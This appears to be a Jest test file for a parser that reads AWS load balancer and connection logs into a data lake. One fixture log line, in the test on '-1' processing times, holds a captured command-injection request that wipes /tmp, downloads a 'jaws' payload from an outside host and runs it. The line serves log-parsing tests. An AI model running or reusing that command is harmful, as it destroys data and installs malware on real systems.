import { copyFileSync, mkdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { ingest } from '../../etl/ingest';
import { source as alb } from '../../etl/sources/alb/parser';
import type { ParsedItem } from '../../etl/sources/types';
import { tempDir, withDuckDb } from '../etl/helpers';
import { goldenDir, parseFile } from './golden';

/** A row's cells, read by column name. */
type Row = Readonly<Record<string, unknown>>;

async function parse(text: string, key = '/tmp/elb.log'): Promise<ParsedItem[]> {
  const items: ParsedItem[] = [];
  for await (const item of alb.parse(Readable.from([Buffer.from(text)]), { key })) items.push(item);
  return items;
}

function rows(items: ParsedItem[]): Row[] {
  return items.flatMap((i) => (i.kind === 'rows' ? i.rows.map((r) => r.row) : []));
}

const HTTPS = 'https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90';
const CLASSIC_TCP = '2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305 "- - - " "-" - -';

describe('alb records', () => {
  test('client and target split into address and port; codes, bytes and times are numbers', async () => {
    const [row] = rows(await parse(`${HTTPS}\n`));
    expect(row).toMatchObject({
      time: new Date('2018-07-02T22:23:00.186Z'),
      src_ip: '192.168.131.39',
      dst_ip: '10.0.0.1',
      dst_port: 80,
      status: 200,
      outcome: 'success',
      bytes_in: 0,
      bytes_out: 57,
      duration_ms: 171,
      http_method: 'GET',
      url: 'https://www.example.com:443/',
      host: 'www.example.com',
      path: '/',
      user_agent: 'curl/7.46.0',
      tls_protocol: 'TLSv1.2',
      // From the target group ARN.
      account: '123456789012',
      region: 'us-east-2',
      resources: [
        'arn:aws:elasticloadbalancing:us-east-2:123456789012:loadbalancer/app/my-loadbalancer/50dc6c495c0c9188',
        'arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067',
      ],
    });
  });

  test('-1 processing times give no duration; `-` target gives no destination', async () => {
    const line = 'http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell" "-" "-" "-" "Acceptable" "SpaceInUri"';
    const [row] = rows(await parse(`${line}\n`));
    expect(row).toMatchObject({
      duration_ms: null,
      dst_ip: null,
      dst_port: null,
      status: 301,
      // A URL with a space in it still splits into method, URL and version.
      http_method: 'GET',
      url: 'http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws',
      path: '/shell',
      user_agent: 'Hello, world',
      account: 'unknown',
      region: 'unknown',
      resources: ['app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e'],
    });
  });

  test('account and region come from the key when the line has no target group', async () => {
    const key = 's3://logs/prefix/AWSLogs/123456789012/elasticloadbalancing/eu-west-1/2015/05/13/123456789012_elasticloadbalancing_eu-west-1_my-loadbalancer_20150513T2340Z_172.160.001.192_20sg8hgm.log';
    const [row] = rows(await parse(`${CLASSIC_TCP}\n`, key));
    expect(row).toMatchObject({ account: '123456789012', region: 'eu-west-1', resources: ['arn:aws:elasticloadbalancing:eu-west-1:123456789012:loadbalancer/my-loadbalancer'] });
  });

  test('Classic ELB TCP listener lines: no method, no status, outcome unknown', async () => {
    const [row] = rows(await parse(`${CLASSIC_TCP}\n`));
    expect(row).toMatchObject({ http_method: null, url: null, status: null, outcome: 'unknown', bytes_in: 82, bytes_out: 305, src_ip: '192.168.131.39', dst_port: 80, user_agent: null });
  });

  test('a Lambda failure is a failure with its error reason', async () => {
    const line = 'http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 0.001 0.000 502 - 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "LambdaInvalidResponse"';
    const [row] = rows(await parse(`${line}\n`));
    expect(row).toMatchObject({ status: 502, outcome: 'failure', error_code: 'LambdaInvalidResponse' });
  });

  test('fields AWS appends later are tolerated', async () => {
    const items = await parse(`${HTTPS} "-" "-" "-" 203.0.113.9 "x" "y"\n`);
    expect(items[0].kind).toBe('rows');
  });

  test('bad lines are quarantined with line and reason; good lines survive', async () => {
    const items = await parseFile(alb, join(goldenDir(alb), 'bad-lines.log'));
    // Line 7, a Network Load Balancer line, is read too (it was once quarantined as no ALB or Classic line).
    expect(items.map((i) => i.kind)).toEqual(['rows', 'quarantine', 'quarantine', 'quarantine', 'quarantine', 'quarantine', 'rows', 'rows']);
    const reasons = items.flatMap((i) => (i.kind === 'quarantine' ? [`${i.position}: ${i.reason}`] : []));
    expect(reasons).toEqual([
      expect.stringMatching(/^line 2: unterminated quoted field/),
      'line 3: Application Load Balancer line has 10 fields, expected at least 16',
      "line 4: elb_status_code 'OK' is not a non-negative integer",
      "line 5: processing time 'fast' is not a number",
      "line 6: time '2018-13-02T22:23:00.186641Z' is not an ISO 8601 timestamp",
    ]);
  });

  test('a line of no load balancer layout is quarantined with why', async () => {
    const items = await parse('2 123456789010 eni-1235b8ca123456789 172.31.16.139 172.31.16.21 20641 22 6 20 4249 1418530010 1418530070 ACCEPT OK\n');
    expect(items).toEqual([
      expect.objectContaining({ kind: 'quarantine', position: 'line 1', reason: "not a load balancer log line: no ALB, Classic or NLB access log or ALB connection log layout (type '2')" }),
    ]);
  });
});

/** Each row of a parse with its table. */
function tableRows(items: ParsedItem[]): (Row & { table: string })[] {
  return items.flatMap((i) => (i.kind === 'rows' ? i.rows.map((r) => ({ ...r.row, table: r.table })) : []));
}

describe('Network Load Balancer TLS and ALB connection log lines', () => {
  test("AWS's NLB examples: a connection from client to listener in network_activity, with bytes, start and end, TLS version, cipher and SNI name", async () => {
    const items = await parseFile(alb, join(goldenDir(alb), 'docs-nlb-tls.log'));
    const rows = tableRows(items);
    // Both documented examples, each as the current documentation prints it and as it did before tls_connection_creation_time.
    expect(rows).toHaveLength(4);
    expect(rows.every((r) => r.table === 'network_activity')).toBe(true);
    expect(rows[1]).toMatchObject({
      time: new Date('2020-04-01T08:51:42Z'),
      start_time: new Date('2020-04-01T08:51:20Z'),
      end_time: new Date('2020-04-01T08:51:42Z'),
      activity: 'tls-connection',
      outcome: 'success',
      src_ip: '72.21.218.154',
      src_port: 51341,
      dst_ip: '172.100.100.185',
      dst_port: 443,
      protocol: 6,
      // received 98 + sent 246
      bytes: 344,
      // Logged as `tlsv12`: written as ALB and CloudFront write it, so one filter finds every TLS 1.2 connection.
      tls_protocol: 'TLSv1.2',
      tls_cipher: 'ECDHE-RSA-AES128-SHA',
      server_name: 'my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com',
      // From the chosen certificate's ARN: ACM certificates live in the load balancer's account and region.
      account: '671290407336',
      region: 'us-east-2',
      resources: [
        'arn:aws:elasticloadbalancing:us-east-2:671290407336:loadbalancer/net/my-network-loadbalancer/c6e77e28c25b2234',
        'arn:aws:elasticloadbalancing:us-east-2:671290407336:listener/net/my-network-loadbalancer/c6e77e28c25b2234/g3d4b5e8bb8464cd',
        'arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99',
      ],
    });
    // The older layout has no creation time: no start.
    expect(rows[2]).toMatchObject({ start_time: null, end_time: new Date('2018-12-20T02:59:40Z'), bytes: 344 });
  });

  test("AWS's connection log examples: the mutual TLS client certificate, and a failed verification is a failure with its reason", async () => {
    const rows = tableRows(await parseFile(alb, join(goldenDir(alb), 'docs-connection-log.log')));
    expect(rows).toHaveLength(2);
    const subject = 'CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US';
    expect(rows[0]).toMatchObject({
      table: 'network_activity',
      time: new Date('2023-10-04T17:05:15.514Z'),
      activity: 'tls-handshake',
      outcome: 'success',
      error_code: null,
      src_ip: '203.0.113.1',
      src_port: 36280,
      dst_port: 443,
      dst_ip: null,
      tls_protocol: 'TLSv1.2',
      tls_cipher: 'ECDHE-RSA-AES128-GCM-SHA256',
      client_cert_subject: subject,
      client_cert_serial: 'FEF257372D5C14D4',
    });
    expect(rows[1]).toMatchObject({ outcome: 'failure', error_code: 'ClientCertUntrusted', client_cert_subject: subject });
  });

  test('a failed NLB handshake, plain and later connection log lines, and broken lines', async () => {
    const items = await parseFile(alb, join(goldenDir(alb), 'tls-lines-edge-cases.log'));
    expect(items.map((i) => i.kind)).toEqual(['rows', 'quarantine', 'quarantine', 'quarantine', 'rows', 'rows', 'quarantine', 'quarantine']);
    const [alert, plain, tls13] = tableRows(items);
    // No handshake time and the client's alert 40 (handshake_failure): a failed connection.
    expect(alert).toMatchObject({ outcome: 'failure', error_code: 'TlsAlert40', tls_protocol: null, bytes: 98 });
    // An HTTP listener's connection: nothing of TLS; the load balancer named by the later `elb` field.
    expect(plain).toMatchObject({ activity: 'connection', outcome: 'unknown', dst_port: 80, tls_protocol: null, resources: ['app/my-loadbalancer/50dc6c495c0c9188'] });
    // A completed handshake with no client certificate to verify.
    expect(tls13).toMatchObject({ activity: 'tls-handshake', outcome: 'success', tls_protocol: 'TLSv1.3' });
    expect(items.flatMap((i) => (i.kind === 'quarantine' ? [`${i.position}: ${i.reason}`] : []))).toEqual([
      'line 2: Network Load Balancer line has 11 fields, expected at least 18',
      "line 3: received_bytes 'many' is not a non-negative integer",
      "line 4: tls_connection_creation_time 'yesterday' is not an ISO 8601 timestamp",
      "line 7: listener_port '99999' is not a port",
      'line 8: Application Load Balancer connection log line has 8 fields, expected at least 11',
    ]);
  });

  test('a file mixing every load balancer line type: all ten lines read, none quarantined', async () => {
    const items = await parseFile(alb, join(goldenDir(alb), 'mixed-elb-line-types.log'));
    expect(items.filter((i) => i.kind !== 'rows')).toEqual([]);
    const rows = tableRows(items);
    expect(rows.map((r) => `${r.table} ${String(r.activity)}`)).toEqual([
      'http_activity GET',
      'http_activity GET',
      'network_activity tls-connection',
      'network_activity tls-handshake',
      'network_activity tls-connection',
      'http_activity null',
      'network_activity tls-connection',
      'network_activity tls-handshake',
      'network_activity tls-connection',
      'http_activity GET',
    ]);
  });
});

describe('load balancer connections in the lake', () => {
  let dir: string;
  beforeAll(() => {
    dir = tempDir('alb-connections');
  });
  afterAll(() => {
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  test('counts reconcile across both tables, repeated lines are not doubled, and NLB connections are flows in the graph', async () => {
    const logs = join(dir, 'logs');
    mkdirSync(logs, { recursive: true });
    for (const file of ['mixed-elb-line-types.log', 'docs-nlb-tls.log', 'docs-connection-log.log', 'tls-lines-edge-cases.log'])
      copyFileSync(join(goldenDir(alb), file), join(logs, file));
    const lake = join(dir, 'lake');
    const summary = await ingest({ inputs: [logs], lake, graph: true });
    expect(summary.records).toBe(24);
    expect(summary.records).toBe(summary.written + summary.quarantined + summary.filtered + summary.duplicates);
    expect(summary.quarantined).toBe(5);
    // The mixed file repeats the four NLB and two connection log lines of the docs files.
    expect(summary.duplicates).toBe(6);
    expect(summary.written).toBe(13);
    await withDuckDb(async (run) => {
      const counts = await run(
        `SELECT 'http' AS t, count(*)::INTEGER AS n FROM read_parquet('${lake}/http_activity/source=alb/**/*.parquet')
         UNION ALL SELECT 'network', count(*)::INTEGER FROM read_parquet('${lake}/network_activity/source=alb/**/*.parquet') ORDER BY t`,
      );
      expect(counts).toEqual([
        { t: 'http', n: 4 },
        { t: 'network', n: 9 },
      ]);
      const flows = await run(
        `SELECT src_id, dst_id, event_count::INTEGER AS n, bytes::INTEGER AS bytes FROM read_parquet('${lake}/graph/edges/*/*.parquet')
         WHERE rel = 'flow' AND source = 'alb' ORDER BY ALL`,
      );
      // Four documented connections (344 bytes each) and the failed handshake (98 bytes), on two days.
      expect(flows).toEqual([
        { src_id: '72.21.218.154', dst_id: '172.100.100.185', n: 2, bytes: 688 },
        { src_id: '72.21.218.154', dst_id: '172.100.100.185', n: 3, bytes: 786 },
      ]);
    });
  });
});

describe('alb detection', () => {
  const detect = (head: string, key = '/x') => {
    const d = alb.detect({ key, head });
    return 'confidence' in d ? d.confidence : -1;
  };
  test('ALB, Classic ELB, NLB TLS and ALB connection log lines are recognized, other formats are not', () => {
    expect(detect(`${HTTPS}\n`)).toBeGreaterThanOrEqual(0.9);
    expect(detect(`${CLASSIC_TCP}\n`)).toBeGreaterThanOrEqual(0.9);
    expect(detect('tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 192.168.131.39:2817 10.0.0.1:80 5 2 98 246 -\n')).toBeGreaterThanOrEqual(0.9);
    expect(detect('2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 "CN=x" NotBefore=2023 FEF257372D5C14D4 Success\n')).toBeGreaterThanOrEqual(0.9);
    expect(detect('2 123456789010 eni-1235b8ca123456789 172.31.16.139 172.31.16.21 20641 22 6 20 4249 1418530010 1418530070 ACCEPT OK\n')).toBe(0);
    expect(detect('#Version: 1.0\n')).toBe(0);
  });
});
